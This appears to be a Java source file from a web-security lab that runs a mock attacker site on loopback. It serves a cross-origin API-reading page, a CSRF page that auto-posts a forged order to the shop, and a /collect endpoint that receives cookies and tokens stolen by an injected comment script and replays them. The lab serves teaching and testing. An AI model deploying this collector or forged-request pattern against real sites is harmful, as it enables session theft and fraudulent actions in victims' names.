package dragonkey.mock.attack;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Consumer;

import dragonkey.mock.attack.TrialEvent.PageTold;
import dragonkey.mock.attack.TrialEvent.PagesDone;
import dragonkey.mock.attack.TrialEvent.ScriptSent;
import dragonkey.mock.http.Handler;
import dragonkey.mock.http.HttpListener;
import dragonkey.mock.http.Request;
import dragonkey.mock.http.Response;
import dragonkey.mock.http.Router;
import dragonkey.mock.http.Router.Route;

/// Another site than the shop's, on this computer: `127.0.0.1` beside the shop's `localhost`, which are two sites to a browser
/// (RFC 6265bis §5.2); by the name `localhost` it is of the shop's site, and of another origin still, for its port is another.
public final class OtherSite implements AutoCloseable {
    private final HttpListener listener;
    private final SiteTarget target;
    private final StolenGoods stolen;
    private final Consumer<TrialEvent> told;

    /// Whom the pages are aimed at.
    ///
    /// @param shop the shop's address as browsers have it, without a slash at its end
    /// @param key known to the pages alone: nobody else's report counts
    /// @param item what a forged order is of
    public record SiteTarget(URI shop, String key, String item) {
    }

    private OtherSite(HttpListener listener, SiteTarget target, Consumer<TrialEvent> told) {
        this.listener = listener;
        this.target = target;
        this.told = told;
        this.stolen = new StolenGoods(target.shop(), told);
        Handler routes = new Router(List.of(
                Route.get("/origins",
                        request -> page("Another origin", "lab-origins.js",
                                """
                        <p>It calls the shop's API from here, and tells what it could read.</p>
                        <ul id="told"></ul>
                        <div id="settings" data-shop="%s" data-key="%s"></div>""".formatted(target.shop(),
                                        target.key()))),
                Route.get("/forged",
                        request -> page("You have won a dragon", "lab-forged.js",
                                """
                        <p>This page has sent a form to the shop, in your name if your browser adds your cookie.</p>
                        <form id="forged" method="post" action="%s/orders">
                        <input type="hidden" name="item" value="%s"></form>
                        <div id="settings" data-shop="%1$s" data-item="%2$s"></div>"""
                                        .formatted(target.shop(), target.item()))),
                Route.get("/thief", request -> page("What this site holds", "", stolen.html())),
                Route.get("/lab-origins.js", request -> LabPage.script("lab-origins.js")),
                Route.get("/lab-forged.js", request -> LabPage.script("lab-forged.js")),
                Route.post("/report", this::report), Route.post("/collect", this::collect)));
        listener.serve(request -> answer(request, routes), (request, response, took) -> {
        });
    }

    /// Serves the pages, until it is closed.
    ///
    /// @param told each event, on the thread of the request that it came with
    public static OtherSite open(SiteTarget target, Consumer<TrialEvent> told) {
        return new OtherSite(HttpListener.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0)),
                target, told);
    }

    /// Its address, of another site than the shop.
    public URI address() {
        return URI.create("http://127.0.0.1:" + listener.port());
    }

    /// Its address by the shop's own name: the same site, another origin.
    public URI sameSiteAddress() {
        return URI.create("http://localhost:" + listener.port());
    }

    /// By its two names alone: another name would be of somebody who has lead it here.
    private Response answer(Request request, Handler routes) {
        Set<String> own = Set.of(address().getAuthority(), sameSiteAddress().getAuthority());
        return own.contains(String.valueOf(request.header("Host")))
                ? routes.answer(request)
                : Response.json(421, Map.of("error", "misdirected"));
    }

    private static Response page(String title, String script, String content) {
        return LabPage.of(title, script, content);
    }

    private Response report(Request request) {
        if (!isOurs(request)) {
            return Response.json(403, Map.of("error", "not_a_page_of_ours"));
        }
        String way = request.body().text("way", "");
        told.accept(way.equals("end")
                ? new PagesDone()
                : new PageTold(way, request.body().text("what", ""), request.body().text("outcome", "")));
        return Response.empty(204);
    }

    private boolean isOurs(Request request) {
        return MessageDigest.isEqual(target.key().getBytes(StandardCharsets.UTF_8),
                request.body().text("key", "").getBytes(StandardCharsets.UTF_8));
    }

    /// From the shop's page, where a script ran that somebody wrote into a comment.
    private Response collect(Request request) {
        if (!isOurs(request)) {
            return Response.json(403, Map.of("error", "not_a_script_of_ours"));
        }
        String cookie = request.body().text("cookie", "");
        String token = request.body().text("token", "");
        told.accept(new ScriptSent(!cookie.isEmpty(), !token.isEmpty()));
        stolen.take(cookie, token);
        return Response.empty(204);
    }

    /// Uses what it holds once more.
    void useAgain() {
        stolen.useAgain();
    }

    @Override
    public void close() {
        listener.close();
    }
}
